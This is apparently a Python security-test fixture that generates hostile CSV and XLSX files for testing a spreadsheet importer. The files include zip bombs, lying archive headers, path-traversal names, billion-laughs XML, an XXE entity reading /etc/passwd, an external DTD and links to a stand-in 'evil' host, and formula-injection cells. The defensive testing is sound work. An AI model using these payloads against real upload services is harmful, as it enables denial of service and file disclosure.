"""Hostile spreadsheets: bombs, lies, odd encodings, XML that reaches out. Each is made when it is called."""

import datetime as dt
import gzip
import io
import struct
import zipfile
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

from openpyxl import Workbook
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName

from tests.security.payloads import FORMULAS, INJECTED

Make = Callable[[], bytes]
MILLION, MOST = 1_000_000, 4_900_000
SHEET, STRINGS, STYLES = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"
BOOK, KINDS = "xl/workbook.xml", "[Content_Types].xml"
RELATIONS, OFFICE = "xl/_rels/workbook.xml.rels", "http://schemas.openxmlformats.org"
MAIN = f'xmlns="{OFFICE}/spreadsheetml/2006/main"'
ROW = "Adresse;Contact\n1 rue A;Nadia\n"
BOMB = '<!DOCTYPE b [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
)
LAUGH, SECRET = f"{BOMB}]>", '<!DOCTYPE b [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
OUTSIDE = '<!DOCTYPE b SYSTEM "http://192.0.2.1/evil.dtd">'
BLOWUP = f'<!DOCTYPE b [<!ENTITY a "{"a" * 100_000}">]>'


# -- CSV ---------------------------------------------------------------------------------------------------


def text(words: str, encoding: str = "utf-8") -> Make:
    return lambda: words.encode(encoding, errors="surrogatepass")


def cell(words: str) -> Make:
    """A row whose address is these words."""
    return lambda: ("Adresse\n" + '"' + words.replace('"', '""') + '"\n').encode()


def repeated(*parts: tuple[str, int]) -> Make:
    """Each part so many times; a file is never more than a town may send."""
    return lambda: "".join(words * number for words, number in parts).encode()[:MOST]


MARKS = (
    "e" + "\u0301\u0323" * 60_000
)  # marks that must be sorted to be compared: twice the length, four times the work

CSV: dict[str, Make] = {
    "nothing": lambda: b"",
    "only a mark": lambda: b"\xef\xbb\xbf",
    "only ends of lines": repeated(("\r\n", 2 * MILLION)),
    "only spaces": repeated((" ", MOST)),
    "only NUL": lambda: bytes(MOST),
    "a NUL in a cell": text("Adresse\n1 rue\0A\n"),
    "sep= and nothing": text("sep="),
    "sep= and no more": text("sep=;\n"),
    "sep= twice": text("sep=;\nsep=;\n" + ROW),
    "a million columns": repeated(("Adresse", 1), (";", MILLION), ("\n1 rue A", 1), (";", MILLION)),
    "four million headings": repeated((";", 4 * MILLION), ("Adresse\n", 1)),
    "a million known headings": repeated(("Adresse;", 600_000), ("\n1 rue A\n", 1)),
    "two million empty rows": repeated(("Adresse\n", 1), (";\n", 2 * MILLION)),
    "too many rows": repeated(("Adresse\n", 1), ("1 rue A\n", 20_001)),
    "a fault in each of many rows": repeated(("Adresse;Contact;Message;Lien\n", 1), (f";{'x' * 200}\n", 19_000)),
    "two million short rows": repeated(("Adresse\n", 1), ("a\n", 2 * MILLION)),
    "a cell of five megabytes": repeated(("Adresse\n", 1), ("x", 4_800_000)),
    "a quote never closed": repeated(('Adresse\n"1 rue A\n', 1), ("x\n", 2 * MILLION)),
    "nothing but quotes": repeated(('"', MOST)),
    "quotes inside quotes": repeated(("Adresse\n", 1), ('"a""b"";', 500_000)),
    "a word without end": cell("a" * 100_000),
    "marks over one letter": cell(MARKS),
    "marks over a heading": lambda: f"Adresse;{MARKS}\n1 rue A;x\n".encode(),
    "marks in many cells": lambda: ("Adresse;Contact;Message\n" + f"1 rue A;{MARKS};{MARKS}\n" * 8).encode(),
    "a heading twice": text("Adresse;Adresse;Lieu\n1 rue A;2 rue B;3\n"),
    "headings and no row": text("Adresse;Contact\n"),
    "rows and no heading": text("1 rue A;Nadia\n"),
    "headings in the third row": text("Mairie\n\nAdresse;Contact\n1 rue A;Nadia\n"),
    "a heading turned around": text("\u202eAdresse\u202c\n1 rue A\n"),
    "a row turned around": cell("\u202eA eur 1\u202c \u2066\u2069\u200f"),
    "control signs": cell("".join(map(chr, (*range(1, 10), *range(11, 13), *range(14, 32), 127)))),
    "ends of lines of all kinds": text("Adresse\x0b1 rue A\x0c2 rue B\x853\u20284\u20295\x1c6\n"),
    "all separators": text("Adresse;Contact,Message\tLien|Lieu\n1;2,3\t4|5\n"),
    "ways out of a folder": cell("../../../../etc/passwd"),
    "ways out, Windows": cell("..\\..\\windows\\system32\\drivers"),
    "an absolute name": cell("/etc/passwd"),
    "a name with an end": cell("affiche.pdf\r\nContent-Type: text/html"),
    "a device of Windows": cell("CON"),
    "broken UTF-8": lambda: b"Adresse\n1 rue \xc3\x28 \xff\xfe\n",
    "UTF-8 cut in a letter": lambda: "Adresse\n1 rue É".encode()[:-1],
    "overlong UTF-8": lambda: b"Adresse\n\xc0\xaf\xe0\x80\xaf\n",
    "lone halves of UTF-16": lambda: b"\xff\xfe" + "Adresse\n".encode("utf-16-le") + b"\x00\xd8\n\x00",
    "UTF-16 cut in a letter": lambda: ROW.encode("utf-16")[:-1],
    "UTF-16 without its mark": text(ROW, "utf-16-le"),
    "UTF-32": text(ROW, "utf-32"),
    "UTF-7": text(ROW, "utf-7"),
    "a mainframe’s letters": text(ROW, "cp037"),
    "Japanese letters": text("Adresse\n通り\n", "shift-jis"),
    "an old Macintosh’s letters": text("Adresse\n1 allée É\n", "mac-roman"),
    "Chinese letters under another mark": lambda: b"\xef\xbb\xbf" + "Adresse\n街\n".encode("gb18030"),
    "packed": lambda: gzip.compress(bytes(50 * MILLION), 9),
    "a PDF": lambda: b"%PDF-1.7\n" + bytes(range(256)) * 100,
    "an old Excel file": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000),
    "a program": lambda: b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 1000,
    "a page that says it is Excel": text("<html><table><tr><td>Adresse<tr><td>1 rue A</table>"),
    "JSON": text('[{"Adresse": "1 rue A"}]'),
    "too heavy by one byte": lambda: bytes(5_000_001),
    "numbers that break programs": text("Adresse;Téléphone\n1e999;NaN\n-0;0x10\n1" + "9" * 60 + ";+33\n"),
    **{f"a formula, {number}": cell(words) for number, words in enumerate(FORMULAS)},
    **{f"what people inject, {number}": cell(words) for number, words in enumerate(INJECTED[:8])},
}  # fmt: skip


# -- XLSX, by its parts ------------------------------------------------------------------------------------


def parts(**changes: str) -> dict[str, str]:
    """A small whole workbook; ``changes`` by the short names of PARTS."""
    words = {
        KINDS: f'<Types xmlns="{OFFICE}/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        + "".join(
            f'<Override PartName="/{name}" '
            f'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"/>'
            for name, kind in ((BOOK, "sheet.main"), (SHEET, "worksheet"), (STRINGS, "sharedStrings"))
        )
        + "</Types>",
        "_rels/.rels": relations(("officeDocument", BOOK)),
        RELATIONS: relations(("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml")),
        BOOK: f'<workbook {MAIN} xmlns:r="{OFFICE}/officeDocument/2006/relationships">'
        '<sheets><sheet name="A" sheetId="1" r:id="rId0"/></sheets></workbook>',
        STRINGS: strings("Adresse", "1 rue A"),
        SHEET: sheet(),
    }
    return {**words, **{PARTS[name]: said for name, said in changes.items()}}


PARTS = {
    "sheet": SHEET,
    "strings": STRINGS,
    "book": BOOK,
    "kinds": KINDS,
    "relations": RELATIONS,
    "styles": STYLES,
}


def relations(*named: tuple[str, str], outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return (
        f'<Relationships xmlns="{OFFICE}/package/2006/relationships">'
        + "".join(
            f'<Relationship Id="rId{number}" Type="{OFFICE}/officeDocument/2006/relationships/{kind}"'
            f' Target="{target}"{mode}/>'
            for number, (kind, target) in enumerate(named)
        )
        + "</Relationships>"
    )


def strings(*said: str, before: str = "") -> str:
    return f"{before}<sst {MAIN}>" + "".join(f"<si><t>{each}</t></si>" for each in said) + "</sst>"


GOOD = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row>'


def sheet(rows: str = GOOD, *, before: str = "", more: str = "", after: str = "") -> str:
    return f"{before}<worksheet {MAIN}>{more}<sheetData>{rows}</sheetData>{after}</worksheet>"


def packed(held: Mapping[str, str | bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", method) as archive:
        for name, data in held.items():
            archive.writestr(name, data)
    return target.getvalue()


def with_parts(**changes: str) -> Make:
    return lambda: packed(parts(**changes))


def much(part: str, before: str, unit: str, after: str, size: int = 24 * MILLION) -> Make:
    """A workbook one part of which repeats ``unit`` up to ``size`` bytes."""
    return lambda: packed(parts(**{part: before + unit * (size // len(unit)) + after}))


def in_sheet(unit: str, size: int = 24 * MILLION) -> Make:
    return much("sheet", f"<worksheet {MAIN}><sheetData>{GOOD}", unit, "</sheetData></worksheet>", size)


def one(value: str, kind: str = "", *, place: str = "A2") -> Make:
    """A workbook whose one address is this cell."""
    typed = f' t="{kind}"' if kind else ""
    held = f'<row r="2"><c r="{place}"{typed}><v>{value}</v></c></row>'
    return with_parts(sheet=sheet(GOOD.partition('<row r="2"')[0] + held))


def lying(data: bytes, size: int) -> bytes:
    """The same archive, each entry of which says that it is ``size`` bytes long."""
    changed = bytearray(data)
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = changed.find(mark)
        while place >= 0:
            changed[place + offset : place + offset + 4] = struct.pack("<I", size)
            place = changed.find(mark, place + 4)
    return bytes(changed)


def flagged(data: bytes, offset: int, value: int) -> bytes:
    """The same archive with one 16-bit word of each entry of its list changed (flags at 8, method at 10)."""
    changed = bytearray(data)
    place = changed.find(b"PK\x01\x02")
    while place >= 0:
        changed[place + offset : place + offset + 2] = struct.pack("<H", value)
        place = changed.find(b"PK\x01\x02", place + 4)
    return bytes(changed)


def bomb(size: int) -> bytes:
    """Zeros, packed a thousand times smaller than they are."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, said in parts().items():
            archive.writestr(name, said)
        with archive.open("xl/media/zeros.bin", "w", force_zip64=True) as entry:
            for _megabyte in range(size // MILLION):
                entry.write(bytes(MILLION))
    return target.getvalue()


def many(number: int) -> bytes:
    return packed({**parts(), **{f"xl/media/{each}.bin": b"" for each in range(number)}}, zipfile.ZIP_STORED)


def twice() -> bytes:
    """Two entries of one name: what was counted need not be what is read."""
    data = packed({**parts(), "xl/worksheets/sheet2.xml": sheet() + " " * MILLION})
    return data.replace(b"xl/worksheets/sheet2.xml", b"xl/worksheets/sheet1.xml")


def nested() -> bytes:
    inner = packed({"a": bytes(10 * MILLION)})
    return packed({"a.zip": packed({"b.zip": inner}), **parts()})


# -- XLSX, as a town’s program makes it --------------------------------------------------------------------


def workbook(write: Callable[[Workbook, Any], object]) -> Make:
    def make() -> bytes:
        book = Workbook()
        table = book.active
        assert table is not None
        table["A1"], table["A2"] = "Adresse", "1 rue A"
        write(book, table)
        held = io.BytesIO()
        book.save(held)
        return held.getvalue()

    return make


def merged(_book: Workbook, table: Any) -> None:
    table.merge_cells("A2:BH200")


def linked(book: Workbook, table: Any) -> None:
    table["A2"] = "=[1]Feuille!A1"
    table["A2"].hyperlink = "http://192.0.2.1/evil"
    book.defined_names["evil"] = DefinedName("evil", attr_text="'[http://192.0.2.1/evil.xlsx]A'!$A$1")


def noted(_book: Workbook, table: Any) -> None:
    table["A2"].comment = Comment("x" * 30_000, "evil")


def dated(_book: Workbook, table: Any) -> None:
    table["B1"], table["B2"] = "Date", dt.datetime.fromisoformat("9999-12-31T23:59")
    table["A3"], table["B3"] = "2 rue B", dt.datetime.fromisoformat("1900-01-01T00:00")


def hidden(_book: Workbook, table: Any) -> None:
    table.sheet_state = "visible"
    table.row_dimensions[2].hidden = table.column_dimensions["A"].hidden = True


def typed(_book: Workbook, table: Any) -> None:
    table.append([True])
    table.append([dt.timedelta(days=10**5)])
    table.append([10**300])
    table.append(["#REF!"])


def many_sheets(book: Workbook, _table: Any) -> None:
    for each in range(400):
        book.create_sheet(f"f{each}")


def wide(_book: Workbook, table: Any) -> None:
    table["XFD1048576"] = "the last cell"


def with_formula(words: str, _book: Workbook, table: Any) -> None:
    table["A2"] = words.replace("\r", "")


CELL = '<c r="A3" t="s"><v>1</v></c>'
XLSX: dict[str, Make] = {
    "an empty archive": lambda: b"PK\x03\x04PK\x05\x06" + bytes(18),
    "an archive of nothing of ours": lambda: packed({"a.txt": "Adresse"}),
    "a Word document": lambda: packed({KINDS: "<Types/>", "word/document.xml": "<w/>"}),
    "an OpenDocument": lambda: packed({"mimetype": "application/vnd.oasis.opendocument.spreadsheet"}),
    "the head of an archive only": lambda: b"PK\x03\x04" + bytes(200),
    "cut in the middle": lambda: packed(parts())[:900],
    "with its list cut": lambda: packed(parts())[:-30],
    "with a megabyte before": lambda: b"PK\x03\x04" + bytes(MILLION) + packed(parts()),
    "with a page behind": lambda: packed(parts()) + b"<script>alert(1)</script>",
    "two hundred megabytes in two hundred kilobytes": partial(bomb, 200 * MILLION),
    "a bomb in a bomb": nested,
    "a header that says less": lambda: lying(bomb(200 * MILLION), 100),
    "a header that says nothing": lambda: lying(packed(parts()), 0),
    "a header that says four gigabytes": lambda: lying(packed(parts()), 2**32 - 2),
    "said to be locked": lambda: flagged(packed(parts()), 8, 1),
    "said to be packed otherwise": lambda: flagged(packed(parts()), 10, 99),
    "a bad sum": lambda: flagged(packed(parts()), 16, 0xDEAD),
    "packed by LZMA": lambda: packed(parts(), zipfile.ZIP_LZMA),
    "packed by bzip2": lambda: packed({**parts(), "zeros": bytes(40 * MILLION)}, zipfile.ZIP_BZIP2),
    "a thousand entries and more": partial(many, 1_001),
    "thirty thousand entries": partial(many, 30_000),
    "one name twice": twice,
    "names that lead out": lambda: packed({**parts(), "../../../../tmp/evil": "x", "/etc/evil": "x"}),
    "a name with a NUL": lambda: packed({**parts(), "xl/evil.xml": ""}).replace(b"evil.xml", b"ev\0l.xml"),
    "relations that lead out": with_parts(relations=relations(("worksheet", "../../../../../etc/passwd"))),
    "relations that lead to the net": with_parts(
        relations=relations(("worksheet", "http://192.0.2.1/a"), outside=True)
    ),
    "relations to itself": with_parts(relations=relations(("worksheet", "workbook.xml"))),
    "no relations": with_parts(relations=relations()),
    "a hundred thousand relations": with_parts(relations=relations(*[("worksheet", "a.xml")] * 100_000)),
    "no workbook": lambda: packed({name: said for name, said in parts().items() if name != BOOK}),
    "no sheet": lambda: packed({name: said for name, said in parts().items() if name != SHEET}),
    "no strings": lambda: packed({name: said for name, said in parts().items() if name != STRINGS}),
    "a workbook without a sheet": with_parts(book=f"<workbook {MAIN}><sheets/></workbook>"),
    "a workbook that is no XML": with_parts(book="Adresse"),
    "a sheet that is no XML": with_parts(sheet="Adresse"),
    "a sheet cut in the middle": with_parts(sheet=sheet()[:-20]),
    "a sheet of broken UTF-8": lambda: packed({**parts(), SHEET: sheet().encode() + b"\xff\xfe\xc3"}),
    "a sheet in UTF-7": with_parts(sheet='<?xml version="1.0" encoding="utf-7"?>' + sheet()),
    "a sheet in UTF-16": lambda: packed({**parts(), SHEET: sheet().encode("utf-16")}),
    "a sheet of XML 1.1": with_parts(sheet='<?xml version="1.1"?>' + sheet()),
    **{
        f"{what} in {part}": with_parts(**{part: before + parts()[PARTS[part]]})
        for what, before in (("laughs", LAUGH), ("a secret", SECRET), ("a far DTD", OUTSIDE))
        for part in ("sheet", "strings", "book", "kinds", "relations")
    },
    "laughs told": with_parts(strings=strings("Adresse", "&j;", before=LAUGH)),
    "a secret told": with_parts(strings=strings("Adresse", "&x;", before=SECRET)),
    "one long word a thousand times": with_parts(strings=strings("Adresse", "&a;" * 1_000, before=BLOWUP)),
    "laughs in the sheet": with_parts(
        sheet=sheet('<row r="1"><c t="inlineStr"><is><t>&j;</t></is></c></row>', before=LAUGH)
    ),
    "many megabytes of strings": much("strings", f"<sst {MAIN}>", "<si><t>a</t></si>", "</sst>"),
    "many megabytes of empty strings": much("strings", f"<sst {MAIN}>", "<si/>", "</sst>"),
    "many megabytes of one string": much("strings", f"<sst {MAIN}><si><t>", "a" * 100, "</t></si></sst>"),
    "many megabytes of rich text": much(
        "strings", f"<sst {MAIN}><si>", "<r><t>a</t></r>", "</si></sst>"
    ),
    "many megabytes of cells": in_sheet(f'<row r="3">{CELL}</row>'),
    "many megabytes of one row": in_sheet(CELL),
    "many megabytes of empty rows": in_sheet("<row/>"),
    "many megabytes of unknown things": in_sheet("<x/>"),
    "many megabytes of spaces": in_sheet(" " * 100),
    "many megabytes of remarks": in_sheet("<!--x-->"),
    "many megabytes of depth": in_sheet("<row>", 4 * MILLION),
    "a name of many megabytes": lambda: packed(parts(sheet=sheet(f'<row {"a" * 20 * MILLION}="1"/>'))),
    "many megabytes of styles": lambda: packed(
        parts(
            relations=relations(("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml")),
            styles=f"<styleSheet {MAIN}><cellXfs>" + "<xf/>" * 4 * MILLION + "</cellXfs></styleSheet>",
        )
    ),
    "as many cells as are looked at": in_sheet(f'<row r="3">{CELL}</row>', 240_000 * 46),
    "as many cells as are looked at, in one row": in_sheet(CELL, 370_000 * len(CELL)),
    "as many empty cells as are looked at, in one row": lambda: packed(parts(sheet=sheet(GOOD + '<row>' + '<c/>' * 740_000 + '</row>'))),
    "as many empty rows as are looked at": in_sheet("<row/>", 740_000 * 6),
    "as many unknown things as are looked at": in_sheet("<x/>", 740_000 * 4),
    "as many empty strings as are looked at": much("strings", f"<sst {MAIN}>", "<si/>", "</sst>", 370_000 * 5),
    "as many strings as are looked at": much("strings", f"<sst {MAIN}>", "<si><t>a</t></si>", "</sst>", 185_000 * 17),
    "as much rich text as is looked at": much(
        "strings", f"<sst {MAIN}><si>", "<r><t>a</t></r>", "</si></sst>", 185_000 * 15
    ),
    "as much depth as is looked at": in_sheet("<row>", 740_000 * 5),
    "as many relations as are looked at": with_parts(relations=relations(*[("worksheet", "a.xml")] * 49_000)),
    "a sheet where strings are waited for": lambda: packed(parts(strings=sheet(GOOD + "<x/>" * 700_000))),
    "many megabytes of merged cells": much(
        "sheet", sheet()[:-12] + "<mergeCells>", '<mergeCell ref="A1:B2"/>', "</mergeCells></worksheet>"
    ),
    "many megabytes of sheets": much(
        "book", f"<workbook {MAIN}><sheets>", '<sheet name="A" sheetId="1" id="rId0"/>', "</sheets></workbook>"
    ),
    "a sheet that says it is a million rows": with_parts(
        sheet=sheet(more='<dimension ref="A1:XFD1048576"/>')
    ),
    "a row said to be the last": with_parts(
        sheet=sheet(GOOD + '<row r="1048576"><c r="A1048576" t="s"><v>1</v></c></row>')
    ),
    "a row said to be far away": with_parts(sheet=sheet(GOOD + '<row r="999999999999"/>')),
    "a row before the first": with_parts(sheet=sheet(GOOD + '<row r="-5"><c><v>1</v></c></row>')),
    "a row of no number": with_parts(sheet=sheet('<row r="NaN"/>')),
    "a cell far to the right": one("1", "s", place="ZZZZZZZZ2"),
    "a cell without a place": one("1", "s", place=""),
    "a string that is not there": one("999999", "s"),
    "a string before the first": one("-1", "s"),
    "a string of no number": one("Adresse", "s"),
    "a number without end": one("1e999"),
    "a number of many digits": one("9" * 100_000),
    "a number that is none": one("NaN"),
    "a date without end": one("1" + "0" * 300, "d"),
    "a kind that is not": one("1", "zzz"),
    "an error for an address": one("#REF!", "e"),
    "a formula without a value": with_parts(
        sheet=sheet(GOOD + '<row r="3"><c r="A3"><f>HYPERLINK("http://192.0.2.1")</f></c></row>')
    ),
    "a macro": lambda: packed({**parts(), "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(1000)}),
    "a link to another file": lambda: packed(
        {**parts(), "xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    ),
    "merged cells": workbook(merged),
    "links of all kinds": workbook(linked),
    "a long remark": workbook(noted),
    "the last of days": workbook(dated),
    "hidden rows": workbook(hidden),
    "things that are no text": workbook(typed),
    "four hundred sheets": workbook(many_sheets),
    "a cell in the last corner": workbook(wide),
    **{f"a formula, {n}": workbook(partial(with_formula, words)) for n, words in enumerate(FORMULAS[:5])},
}  # fmt: skip

HOSTILE: dict[str, Make] = {
    **{f"CSV: {name}": make for name, make in CSV.items()},
    **{f"XLSX: {name}": make for name, make in XLSX.items()},
}
